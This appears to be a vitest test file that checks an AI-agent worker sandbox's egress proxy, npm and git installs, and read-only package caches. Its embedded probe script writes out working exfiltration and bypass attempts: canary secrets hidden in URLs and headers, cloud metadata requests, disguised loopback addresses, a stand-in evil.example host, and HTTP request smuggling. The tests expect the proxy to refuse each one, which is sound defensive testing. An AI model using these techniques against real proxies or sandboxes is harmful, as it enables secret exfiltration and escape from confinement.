import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { unwrap } from '@agentcompany/protocol';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { findCaches } from '../orchestrator/src/containers/package-caches.ts';
import { runtimesUnderTest, type OpenRuntime } from '../orchestrator/src/containers/testing/runtimes.ts';
import { WorkerFixture } from '../orchestrator/src/containers/testing/worker-fixture.ts';
import { canary, rule } from '../orchestrator/src/egress/testing/egress-door.ts';
import { startOrigin } from '../orchestrator/src/egress/testing/origin.ts';
import { npm, publishedPackage, runtimeWithNpm, testFolder, type PublishedPackage } from './support/npm-in-worker.ts';
import { outputOf, wayOutLimits, workerWithWayOut } from './support/worker-with-way-out.ts';

const host = 'registry.example.org';
const registry = `https://${host}`;
const run = promisify(execFile);

function serve({ name, packument, tarball, tarballPath }: PublishedPackage, address: string) {
  return ({ url }: IncomingMessage, response: ServerResponse): void => {
    if (url === `/${name}`) response.setHeader('content-type', 'application/json').end(packument(address));
    else if (url === tarballPath) response.end(tarball);
    else response.writeHead(404).end();
  };
}

/** Tries, from inside, to get out what it knows, to others than the allowed host, or in requests that say two things. */
const attacks = `
  import { readFileSync } from 'node:fs';
  import { get, request } from 'node:http';
  import { connect } from 'node:net';
  import { connect as secure } from 'node:tls';
  const said = async (url, options) => { try { const got = await fetch(url, options); return got.status + ' ' + (await got.text()).slice(0, 80); } catch (error) { return 'failed: ' + (error.cause?.message ?? error.message); } };
  const tunnel = (path) => new Promise((resolve) => request(process.env.http_proxy, { method: 'CONNECT', path }).on('connect', (answer, socket) => resolve([answer.statusCode, socket])).on('error', (error) => resolve([error.code])).end());
  const asked = async (path) => { const [answer, socket] = await tunnel(path); socket?.destroy(); return answer; };
  const raw = async (text) => { const [, socket] = await tunnel('${host}:443'); return new Promise((resolve) => { const over = secure({ socket, servername: '${host}' }).on('data', (data) => { resolve(String(data).split('\\r\\n')[0]); over.destroy(); }).on('error', (error) => resolve(error.code)).on('close', () => resolve('closed')); over.write(text); }); };
  const tables = ['tcp', 'tcp6', 'udp', 'udp6'].flatMap((name) => readFileSync('/proc/net/' + name, 'utf8').trim().split('\\n').slice(1));
  const listening = tables.map((line) => line.trim().split(/\\s+/)).filter(([,, , state]) => state === '0A' || state === '07');
  const at = 'https://${host}/x';
  const all = {
    DIRECT: () => new Promise((resolve) => connect({ host: '93.184.215.14', port: 443 }).on('error', (error) => resolve(error.code)).on('connect', () => resolve('connected'))),
    ALLOWED: () => said(at),
    POST: () => said(at, { method: 'POST', body: 'x' }),
    QUERY: () => said(at + '?${canary}'),
    PATH: () => said(at + '/${canary}/y'),
    REVERSED: () => said(at + '?' + [...'${canary}'].reverse().join('')),
    BASE64: () => said(at + '?' + btoa('${canary}')),
    AGENT: () => said(at, { headers: { 'user-agent': '${canary}' } }),
    LABEL: () => said('https://${canary}.${host}/'),
    OTHER: () => said('https://other.example.org/'),
    METADATA: () => said('https://169.254.169.254/'),
    REDIRECT: () => said('https://${host}/away'),
    PLAIN: () => new Promise((resolve) => get(process.env.http_proxy, { path: 'http://${host}/', headers: { host: '${host}' } }, async (answer) => resolve(answer.statusCode + ' ' + (await answer.toArray()).join('')))),
    SSH: () => asked('${host}:22'),
    NUMBER: () => asked('2130706433:443'),
    HEXADECIMAL: () => asked('0x7f.1:443'),
    SHORT: () => asked('127.1:443'),
    MAPPED: () => asked('[::ffff:127.0.0.1]:443'),
    SUFFIX: () => asked('${host}.evil.example:443'),
    HOST: () => raw('GET /other HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'),
    ABSOLUTE: () => raw('GET https://evil.example/other HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n'),
    LENGTHS: () => raw('GET /other HTTP/1.1\\r\\nHost: ${host}\\r\\nContent-Length: 1\\r\\nContent-Length: 2\\r\\n\\r\\nxx'),
    SMUGGLED: () => raw('GET /other HTTP/1.1\\r\\nHost: ${host}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n'),
  };
  console.log('LISTENING', JSON.stringify(listening.map(([, local]) => local.split(':')[0])));
  for (const [name, attack] of Object.entries(all)) console.log(name, await attack());`;

describe('a worker with a way out', () => {
  it('S44 installs with npm ci from an allowed registry, each request on record', async () => {
    const published = await publishedPackage('wide-pad');
    const origin = await startOrigin({ hosts: [host], handle: serve(published, registry) });
    const { work, facts } = await workerWithWayOut(published.project(registry), origin, [rule(host)]);
    const finished = await work(`${npm} ci && node -p "require('wide-pad')"`, {
      runtimeFolder: await runtimeWithNpm(),
    });
    expect(outputOf(finished)).toContain('the words of wide-pad');
    expect(origin.asked.map(({ method, url }) => `${method} ${url}`)).toContain(`GET ${published.tarballPath}`);
    expect(facts).toContainEqual(
      expect.objectContaining({
        event: 'answered',
        host,
        path: published.tarballPath,
        status: 200,
        received_bytes: published.tarball.length,
      }),
    );
    expect(facts.filter(({ event }) => event === 'refused')).toEqual([]);
  });

  it('S44 clones with git over GET alone', async () => {
    const folder = await testFolder('git');
    const git = (...args: readonly string[]) =>
      run('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.org', '-c', 'init.defaultBranch=main', ...args], {
        cwd: folder,
      });
    await writeFile(join(folder, 'words.txt'), 'the words of a library\n');
    await git('init', '--quiet');
    await git('add', '.');
    await git('commit', '--quiet', '--message', 'words');
    await git('clone', '--quiet', '--bare', '.', 'bare');
    await git('--git-dir', 'bare', 'update-server-info');
    const handle = ({ url = '' }: IncomingMessage, response: ServerResponse): void => {
      const file = join(folder, 'bare', (url.split('?')[0] ?? '').replace('/group/library.git/', ''));
      readFile(file).then(
        (content) => response.end(content),
        () => response.writeHead(404).end(),
      );
    };
    const origin = await startOrigin({ hosts: ['git.example.org'], handle });
    const { work, facts } = await workerWithWayOut({ 'a.txt': 'a' }, origin, [
      rule('git.example.org', { paths: ['/group/library.git'] }),
    ]);
    const address = 'https://git.example.org/group';
    const finished = await work(
      `git clone -q ${address}/library.git /tmp/l && cat /tmp/l/words.txt; git clone ${address}/other.git /tmp/o; git clone https://other.example.org/a.git; true`,
    );
    const said = outputOf(finished);
    expect(said).toContain('the words of a library');
    expect(said).toContain('remote: agentcompany: git.example.org: this path is not in egress_allow');
    expect(said).toContain('error: 403');
    // git keeps a proxy's words to itself: the worker's log has them.
    expect(said).toContain("unable to access 'https://other.example.org/a.git/'");
    expect(finished.log).toContain('worker: not let out: other.example.org: this host is not in egress_allow');
    expect(facts.filter(({ event }) => event === 'refused').map(({ path }) => path)[0]).toMatch(
      /^\/group\/other\.git\/info/,
    );
  });

  it('S5 C9 has no proxy, no variable and no listener where the order has no way out', async () => {
    const fixture = await WorkerFixture.open();
    onTestFinished(() => fixture.close());
    const said = await fixture.probe('env | grep -i -c proxy; tail -n +2 /proc/net/tcp | wc -l; ls -d /caches 2>&1');
    expect(said).toMatch(/^0\n0\n.*No such file/s);
  });
});

describe.each(runtimesUnderTest)('on $name, a worker with a way out', ({ open }) => {
  let runtime: OpenRuntime;
  beforeAll(async () => {
    runtime = await open();
  });
  afterAll(() => runtime.close());

  it('C9 S5 S44 S45 listens on the loopback interface alone, and gets nothing out but sound requests to allowed hosts', async () => {
    const handle = ({ url }: IncomingMessage, response: ServerResponse): void => {
      if (url === '/away') response.writeHead(302, { location: 'https://169.254.169.254/latest' }).end();
      else response.end('the answer');
    };
    const origin = await startOrigin({ hosts: [host], handle });
    const { work, facts } = await workerWithWayOut({ 'probe.mjs': attacks }, origin, [rule(host)], runtime);
    const said = outputOf(await work('node probe.mjs'));
    const lineOf = (name: string): string => new RegExp(`^${name} (.*)$`, 'm').exec(said)?.[1] ?? said;
    expect(lineOf('LISTENING')).toBe('["0100007F"]');
    expect(lineOf('DIRECT')).toBe('ENETUNREACH');
    expect(lineOf('ALLOWED')).toBe('200 the answer');
    expect(lineOf('POST')).toContain(`405 agentcompany: ${host}: this method`);
    for (const name of ['QUERY', 'PATH', 'AGENT', 'REVERSED', 'BASE64'])
      expect(lineOf(name), name).toContain(`403 agentcompany: ${host}: the request holds a secret`);
    for (const name of ['LABEL', 'OTHER', 'METADATA', 'REDIRECT']) expect(lineOf(name), name).toMatch(/^failed: /);
    expect(lineOf('PLAIN')).toMatch(/^403 agentcompany: only https/);
    for (const name of ['SSH', 'NUMBER', 'HEXADECIMAL', 'SHORT', 'MAPPED', 'SUFFIX'])
      expect(lineOf(name), name).toMatch(/^(?:40[03]|ECONNRESET)$/);
    for (const name of ['HOST', 'ABSOLUTE', 'LENGTHS', 'SMUGGLED'])
      expect(lineOf(name), name).toMatch(/^HTTP\/1.1 4\d\d /);
    expect(new Set(origin.asked.map(({ method, url }) => `${method} ${url}`))).toEqual(
      new Set(['GET /x', 'GET /away']),
    );
    const reasons = facts.filter(({ event }) => event === 'refused').map(({ reason }) => reason);
    // Node's fetch asks a proxy that refuses many times.
    expect(new Set(reasons)).toEqual(
      new Set(['host', 'host_header', 'malformed', 'method', 'name', 'port', 'secret', 'target']),
    );
  });
});

describe('package caches', () => {
  it('are shared read-only, and npm ci needs nothing else', async () => {
    const published = await publishedPackage('thin-pad');
    const folder = await testFolder('cache');
    const server = createServer().listen(0, '127.0.0.1');
    await once(server, 'listening');
    onTestFinished(() => void server.close());
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    server.on('request', serve(published, address));
    const filling = join(folder, 'project');
    await mkdir(filling);
    for (const [name, content] of Object.entries(published.project(address)))
      await writeFile(join(filling, name), content);
    await run('npm', ['ci', '--cache', join(folder, 'npm'), '--no-audit', '--no-update-notifier'], { cwd: filling });
    const caches = unwrap(
      await findCaches([{ kind: 'npm', folder: join(folder, 'npm') }], {
        userHome: '/nonexistent',
        companyHome: '/nonexistent',
      }),
    );
    // What a worker cannot change is not for its permissions to say.
    await run('chmod', ['-R', 'a+rwX', folder]);
    const fixture = await WorkerFixture.open(published.project(registry));
    onTestFinished(() => fixture.close());
    const command = `${npm} ci && node -p "require('thin-pad')"; touch /caches/npm/x; for f in $(find /caches/npm -type f); do echo x >> $f; done; ls /caches`;
    const finished = await fixture.finish(
      fixture.order({ run: { command }, allow_empty: true, command_timeout: 80 }),
      { limits: wayOutLimits },
      { caches, runtimeFolder: await runtimeWithNpm() },
    );
    const said = outputOf(finished);
    expect(said).toContain('the words of thin-pad');
    expect(said.match(/Read-only file system/g)?.length).toBeGreaterThan(2);
    expect(said.trim().split('\n').at(-1)).toBe('npm');
  });
});
